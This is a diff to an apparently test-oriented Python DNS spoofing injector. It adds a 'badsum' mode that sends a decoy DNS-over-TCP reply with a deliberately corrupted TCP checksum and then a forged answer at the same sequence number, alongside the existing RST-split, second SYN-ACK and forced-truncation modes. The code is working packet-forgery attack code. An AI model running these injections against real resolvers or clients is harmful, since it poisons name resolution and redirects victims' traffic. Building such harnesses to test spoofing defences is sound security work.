@@ -13,7 +13,11 @@ and answers it first, in R1's name, with --answer, shaped by --attack:
              (length prefix and DNS header), so that no segment carries
              the whole question;
   synack     a second SYN-ACK with another initial sequence number, then
-             the forged answer as one whole segment.
+             the forged answer as one whole segment;
+  badsum     a decoy first: a whole, longer reply for an unprotected name
+             (--decoy) at the next message start with a wrong TCP checksum,
+             which the workload's TCP discards; then the forged answer as
+             one whole segment at the same sequence number.
 
 --force-tc first answers the workload's UDP query for the name with a
 forged reply that has TC set and no records, as a blind or on-path UDP
@@ -85,9 +89,11 @@ class Ip:
         return hdr + l4
 
 
-def tcp_segment(ip, sport, dport, seq, ack, flags, payload=b"", window=65535):
+def tcp_segment(ip, sport, dport, seq, ack, flags, payload=b"", window=65535, bad_sum=False):
     hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & SEQ_MASK, ack & SEQ_MASK, 5 << 4, flags, window, 0, 0)
     c = csum(ip.pseudo(6, len(hdr) + len(payload)) + hdr + payload)
+    if bad_sum:
+        c ^= 0x5555
     return ip.packet(6, hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload)
 
 
@@ -185,6 +191,15 @@ class Injector:
                 r.answer.append(dns.rrset.from_text(self.qname, 300, dns.rdataclass.IN, self.qtype, value))
         return r.to_wire()
 
+    def decoy(self, qid, longer_than):
+        """A reply for the unprotected --decoy name (TXT), longer than the forgery."""
+        q = dns.message.make_query(self.args.decoy, dns.rdatatype.TXT)
+        q.id = qid
+        r = dns.message.make_response(q, recursion_available=True)
+        text = '"%s"' % ("x" * min(255, longer_than))
+        r.answer.append(dns.rrset.from_text(dns.name.from_text(self.args.decoy), 300, dns.rdataclass.IN, dns.rdatatype.TXT, text))
+        return r.to_wire()
+
     def on_udp(self, sport, payload):
         q = self.asks(payload)
         if q is None or self.tc_sent:
@@ -227,10 +242,14 @@ class Injector:
             self.send(tcp_segment(ip, 53, cport, nxt + 1000, ack, RST | ACK), "RST seq=next+1000")
             # Wholly before the next byte: old data to the workload, dropped.
             self.send(tcp_segment(ip, 53, cport, nxt - 1000, ack, FIN | ACK), "FIN seq=next-1000")
-        else:
+        elif self.args.attack == "synack":
             self.send(tcp_segment(ip, 53, cport, nxt + 0x100000 - 1, ack, SYN | ACK),
                       "SYN-ACK isn=next+0x100000-1")
         wire = self.reply(query, False)
+        if self.args.attack == "badsum":
+            decoy = self.decoy(query.id ^ 0x5A5A, len(wire))  # no outstanding query's ID
+            self.send(tcp_segment(ip, 53, cport, nxt, ack, PSH | ACK, struct.pack("!H", len(decoy)) + decoy,
+                                  bad_sum=True), "decoy %s, %d bytes, bad checksum" % (self.args.decoy, len(decoy)))
         stream = struct.pack("!H", len(wire)) + wire
         cut = self.args.split if self.args.attack == "rst-split" else len(stream)
         parts = [(0, stream[:cut]), (cut, stream[cut:])] if 0 < cut < len(stream) else [(0, stream)]
@@ -279,7 +298,8 @@ def main():
     ap.add_argument("--qname", required=True)
     ap.add_argument("--qtype", default="A")
     ap.add_argument("--answer", action="append", required=True, help="forged rdata in text, repeatable")
-    ap.add_argument("--attack", choices=("rst-split", "synack"), required=True)
+    ap.add_argument("--attack", choices=("rst-split", "synack", "badsum"), required=True)
+    ap.add_argument("--decoy", default="www.example.test", help="badsum: the unprotected name of the decoy")
     ap.add_argument("--split", type=int, default=12, metavar="BYTES",
                     help="rst-split: bytes of the stream (length prefix included) in the first segment")
     ap.add_argument("--force-tc", action="store_true", help="first answer the UDP query with TC set")
